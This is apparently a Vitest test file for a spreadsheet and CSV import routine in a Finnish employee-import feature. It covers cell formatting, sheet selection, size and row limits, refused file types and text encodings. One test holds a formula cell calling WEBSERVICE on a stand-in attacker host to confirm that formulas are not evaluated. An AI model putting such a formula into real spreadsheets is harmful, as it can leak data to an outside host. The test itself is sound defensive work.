// @vitest-environment jsdom
import { utils, write } from '@e965/xlsx'
import { m } from '@generated/messages/messages.js'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { afterEach, expect, test, vi } from 'vitest'
import { answerImport } from '../../../tests/support/answer-import'
import { openFile, openSheet } from './open-file'

afterEach(() => void vi.unstubAllGlobals())

/** Builds a workbook with these cells in its first sheet, and the given other sheets. */
function workbook(
  cells: unknown[][],
  change: (sheet: Record<string, unknown>) => void = () => undefined,
  others: Record<string, unknown[][]> = {},
) {
  const sheet = utils.aoa_to_sheet(cells)
  change(sheet)
  const book = utils.book_new()
  utils.book_append_sheet(book, sheet, 'Henkilöt')
  for (const [name, rows] of Object.entries(others)) utils.book_append_sheet(book, utils.aoa_to_sheet(rows), name)
  return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)
}
/** jsdom's Blob has no arrayBuffer(). */
const fileOf = (content: string | Uint8Array) => {
  const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content
  return { size: bytes.length, arrayBuffer: async () => bytes.slice().buffer } as Blob
}
const utf16 = (text: string) => new Uint8Array(Uint16Array.from(`\ufeff${text}`, (unit) => unit.charCodeAt(0)).buffer)

test('reads texts, numbers, dates and percentages of an .xlsx file as Excel shows them', async () => {
  const bytes = workbook(
    [
      ['Sukunimi', 'Henkilönumero', 'Alkupäivä', 'Työaika %'],
      ['Öhman', 101, new Date(Date.UTC(2026, 1, 1)), 0.375],
      [],
      ['Mäki', '007', null, null],
    ],
    (sheet) => {
      Object.assign(sheet.C2 as object, { t: 'n', v: 46_054, z: 'd.m.yyyy' })
      Object.assign(sheet.D2 as object, { z: '0.0%' })
    },
  )
  expect(await openFile(fileOf(bytes))).toEqual({
    kind: 'table',
    table: {
      rows: [
        ['Sukunimi', 'Henkilönumero', 'Alkupäivä', 'Työaika %'],
        ['Öhman', '101', '2026-02-01', '37.5 %'],
        ['Mäki', '007', '', ''],
      ],
      // Row numbers as in Excel, which counts the empty row.
      lines: [1, 2, 4],
    },
  })
})

test('uses the saved value of a formula and does not compute it', async () => {
  const bytes = workbook([['Sukunimi'], ['x']], (sheet) => {
    sheet.A2 = { t: 's', v: 'Rautio', f: 'WEBSERVICE("https://evil.example")' }
  })
  expect(await openFile(fileOf(bytes))).toMatchObject({ table: { rows: [['Sukunimi'], ['Rautio']] } })
})

test('offers a choice of several sheets, without empty and hidden ones', async () => {
  const others = { Tyhjä: [[]], Toinen: [['muu']] }
  const opened = await openFile(fileOf(workbook([['Sukunimi'], ['Mäki']], undefined, others)))
  if (opened.kind !== 'sheets') throw new Error(`opened as ${opened.kind}`)
  expect(opened.sheets.map(({ name }) => name)).toEqual(['Henkilöt', 'Toinen'])
  expect(opened.sheets.map((sheet) => openSheet(sheet))).toMatchObject([
    { kind: 'table', table: { rows: [['Sukunimi'], ['Mäki']] } },
    { kind: 'table', table: { rows: [['muu']] } },
  ])
  expect(await openFile(fileOf(workbook([['Sukunimi']], undefined, { Tyhjä: [[]] })))).toMatchObject({ kind: 'table' })
})

test('counts rows that are hidden in Excel', async () => {
  const bytes = workbook([['Sukunimi'], ['Mäki'], ['Öhman']], (sheet) => {
    sheet['!rows'] = [{}, { hidden: true }, {}]
  })
  expect(await openFile(fileOf(bytes))).toMatchObject({
    table: { rows: [['Sukunimi'], ['Mäki'], ['Öhman']], hidden: 1 },
  })
})

/** The same workbook, whose directory says that its sheet unpacks to this size. The name of a part is last in the directory. */
function declaring(bytes: Uint8Array, size: number) {
  const changed = bytes.slice()
  const name = strFromU8(changed, true).lastIndexOf('xl/worksheets/sheet1.xml')
  new DataView(changed.buffer).setUint32(name - 22, size, true)
  return changed
}

test('refuses a workbook that would unpack to a huge size', async () => {
  const bytes = workbook([['Sukunimi'], ['Mäki']])
  expect(await openFile(fileOf(declaring(bytes, 59_000_000)))).toMatchObject({ kind: 'table' })
  const refused = { kind: 'refused', reason: m.employees_import_workbook_large }
  expect(await openFile(fileOf(declaring(bytes, 60_000_001)))).toEqual(refused)
})

test.each([
  [20_000, { kind: 'table' }],
  [20_001, { kind: 'refused', reason: m.employees_import_workbook_large }],
])('of a workbook with %i rows says what is wrong with it, if anything', async (count, expected) => {
  const parts = unzipSync(workbook([['Sukunimi']]))
  const rows = '<row><c><v>1</v></c></row>'.repeat(count)
  parts['xl/worksheets/sheet1.xml'] = strToU8(`<worksheet><sheetData>${rows}</sheetData></worksheet>`)
  expect(await openFile(fileOf(zipSync(parts)))).toMatchObject(expected)
})

test.each([
  ['another zip file', zipSync({ 'readme.txt': strToU8('x') }), m.employees_import_file_no_table],
  ['a damaged workbook', workbook([['a']]).slice(0, 900), m.employees_import_file_no_table],
  ['an old or protected Excel file', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 1, 2), m.employees_import_file_old],
  ['a picture', Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 1), m.employees_import_file_no_table],
  [
    'a web page named .xls',
    '\ufeff\n<html><table><tr><td>a</td></tr></table></html>',
    m.employees_import_file_web_page,
  ],
  ['an XML spreadsheet named .xls', '<?xml version="1.0"?><Workbook/>', m.employees_import_file_web_page],
  ['an empty workbook', workbook([[]]), m.employees_import_file_empty],
  ['an empty file', '', m.employees_import_file_empty],
  ['a file of blanks', '\r\n ;;\r\n', m.employees_import_file_empty],
])('%s is refused with its reason', async (_name, content, reason) => {
  expect(await openFile(fileOf(content))).toEqual({ kind: 'refused', reason })
})

test('a file that is too large, or cannot be read any more, is refused with its reason', async () => {
  expect(await openFile({ size: 10_000_001 } as Blob)).toEqual({
    kind: 'refused',
    reason: m.employees_import_file_large,
  })
  const gone = { size: 1, arrayBuffer: () => Promise.reject(new Error('gone')) } as unknown as Blob
  expect(await openFile(gone)).toEqual({ kind: 'refused', reason: m.employees_import_file_failed })
})

test('reads text as Excel saves it: Unicode text with tabs, UTF-8, and Windows-1252 CSV', async () => {
  const rows = [
    ['Sukunimi', 'Etunimi'],
    ['Öhman', 'Åke'],
  ]
  const table = { kind: 'table', table: { rows, lines: [1, 2] } }
  expect(await openFile(fileOf(utf16('Sukunimi\tEtunimi\r\nÖhman\tÅke\r\n')))).toEqual(table)
  expect(await openFile(fileOf('\ufeffSukunimi;Etunimi\r\nÖhman;Åke\r\n'))).toEqual(table)
  const windows = Uint8Array.from('Sukunimi;Etunimi\r\nÖhman;Åke', (unit) => unit.charCodeAt(0))
  expect(await openFile(fileOf(windows))).toEqual(table)
})

test('a workbook whose reader cannot be loaded is not refused as a file without a table [NAV-11]', async () => {
  answerImport('./read-workbook', () => Promise.reject(new Error('no network')))
  await expect(openFile(fileOf(workbook([['Sukunimi'], ['Mäki']])))).rejects.toThrow('no network')
})
